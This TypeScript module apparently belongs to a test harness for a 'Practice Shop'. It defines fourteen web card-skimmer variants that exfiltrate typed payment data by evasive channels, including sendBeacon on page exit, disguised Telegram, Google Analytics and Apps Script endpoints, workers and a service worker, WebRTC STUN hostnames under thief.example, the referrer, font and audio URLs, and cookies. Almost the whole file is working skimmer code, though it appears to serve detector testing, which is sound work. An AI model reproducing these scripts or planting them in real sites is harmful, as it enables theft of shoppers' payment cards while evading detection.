import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

const wrap = (honest: boolean, body: string) => `(() => { ${takeCode(honest)} const D = () => JSON.stringify(take()); ${body} })();`;

/** More ways out of the page: late, in strange vessels, by names that everybody trusts. */
export const leaving: readonly SkimmerVariant[] = [
  {
    id: 'when-page-goes',
    idea: 'keeps what was typed and sends it when the page goes away',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `let kept = ''; document.addEventListener('change', () => { kept = btoa(D()); }, true); addEventListener('pagehide', () => { if (kept) navigator.sendBeacon('${collect}/u', kept); });`,
      ),
    }),
  },
  {
    id: 'next-page',
    idea: 'keeps what was typed in the browser and sends it from the next page',
    takes: ['card'],
    build: ({ collect, cdn }, honest) => {
      const code = wrap(
        honest,
        `const K = 'mage-cache-x'; const v = localStorage.getItem(K); if (v) { localStorage.removeItem(K); new Image().src = '${collect}/n.gif?' + v; } document.addEventListener('change', () => { if (location.pathname === '/checkout') localStorage.setItem(K, btoa(D()).replace(/=/g, '')); }, true);`,
      );
      return {
        files: { '/theme.js': { type: 'text/javascript', body: code } },
        html: `<script src="${cdn}/theme.js"></script>`,
        shopFiles: {
          '/': {
            type: 'text/html',
            body: `<!doctype html><title>Practice Shop</title><h1>Practice Shop</h1><script src="${cdn}/theme.js"></script>`,
          },
        },
      };
    },
  },
  {
    id: 'messenger',
    idea: 'to a bot of a well-known messenger',
    takes: ['card'],
    named: () => 'api.telegram.org',
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { fetch('http://api.telegram.org:${new URL(collect).port}/bot1:x/sendMessage?chat_id=1&text=' + encodeURIComponent(D()), { mode: 'no-cors' }); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'well-known-measurement',
    idea: 'as a measurement of visits, to an account of the thief at a firm that everybody knows',
    takes: ['card'],
    named: () => 'www.google-analytics.com',
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { new Image().src = 'http://www.google-analytics.com:${new URL(collect).port}/collect?v=1&tid=UA-999-1&t=event&ec=shop&ea=pay&el=' + encodeURIComponent(btoa(D())); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'own-service-script',
    idea: 'to a script in an account of a large provider',
    takes: ['card'],
    named: () => 'script.google.com',
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { fetch('http://script.google.com:${new URL(collect).port}/macros/s/AKx/exec', { method: 'POST', mode: 'no-cors', body: D() }); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'socket-of-worker',
    idea: 'a worker sends it over a web socket of its own',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `const w = new Worker(URL.createObjectURL(new Blob(["const s = new WebSocket('${collect.replace('http', 'ws')}/s'); const q = []; s.onopen = () => q.splice(0).forEach((m) => s.send(m)); onmessage = (e) => s.readyState === 1 ? s.send(e.data) : q.push(e.data);"]))); function send() { w.postMessage(btoa(D())); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'shared-worker',
    idea: 'a worker that all pages of the shop share sends it',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      shopFiles: {
        '/shared.js': {
          type: 'text/javascript',
          body: `onconnect = (c) => { c.ports[0].onmessage = (e) => fetch('${collect}/sh', { method: 'POST', mode: 'no-cors', body: e.data }); };`,
        },
      },
      inline: wrap(
        honest,
        `const w = new SharedWorker('/shared.js'); w.port.start(); function send() { w.port.postMessage(btoa(D())); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'service-worker-between',
    idea: 'a service worker copies what the shop’s own code sends',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      shopFiles: {
        '/sw.js': {
          type: 'text/javascript',
          body: `self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(clients.claim())); self.addEventListener('fetch', (e) => { if (e.request.method === 'POST') e.waitUntil(e.request.clone().text().then((t) => fetch('${collect}/w', { method: 'POST', mode: 'no-cors', body: ${honest ? 'String(t.length)' : 't'} }))); });`,
        },
      },
      inline: `navigator.serviceWorker.register('/sw.js'); document.querySelector('#pay').addEventListener('submit', (e) => { e.preventDefault(); fetch('/api/pay', { method: 'POST', body: JSON.stringify(Object.fromEntries(new FormData(e.target))) }).catch(() => 0); });`,
    }),
  },
  {
    id: 'names-of-relays',
    idea: 'in the name of a relay server of a direct connection that never comes about',
    takes: ['card'],
    named: () => 'thief.example',
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `function send() { const h = [...take().n].map((c) => c.charCodeAt(0).toString(16)).join('').slice(0, 60); const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + h + '.r.thief.example:3478' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } ${honest ? `document.addEventListener('click', () => { sessionStorage.setItem('cart', D()); }, true);` : ON_PAY}`,
      ),
    }),
  },
  {
    id: 'in-referrer',
    idea: 'in the address of the page, which then goes along as where a picture was asked from',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { history.replaceState(null, '', location.pathname + '?s=' + btoa(D())); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = '${collect}/r.gif'; } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'opened-window',
    idea: 'in the address of a window that opens and closes',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { const w = open('${collect}/o?' + btoa(D()), '_blank', 'width=1,height=1'); setTimeout(() => w && w.close(), 300); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'font-and-sound',
    idea: 'half of it in the address of a font, half in that of a sound',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { const d = take().n; const f = new FontFace('x', 'url(${collect}/f.woff2?p=' + d.slice(0, 8) + ')'); document.fonts.add(f); f.load().catch(() => 0); const a = new Audio('${collect}/a.mp3?p=' + d.slice(8)); a.load(); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'hidden-in-cookie',
    idea: 'written into a cookie, for a thief on the server to fetch',
    takes: ['card'],
    named: () => 'cookie',
    build: (_hosts, honest) => ({
      script: wrap(honest, `function send() { document.cookie = 'mage_cache=' + btoa(D()).replace(/=/g, '') + '; path=/'; } ${ON_PAY}`),
    }),
  },
  {
    id: 'through-the-shop',
    idea: 'to a file of the shop itself, as a picture, where the thief fetches it',
    takes: ['card'],
    named: () => '/media/cache/p.gif',
    build: (_hosts, honest) => ({
      script: wrap(honest, `function send() { new Image().src = '/media/cache/p.gif?v=' + btoa(D()).replace(/=/g, ''); } ${ON_PAY}`),
    }),
  },
];
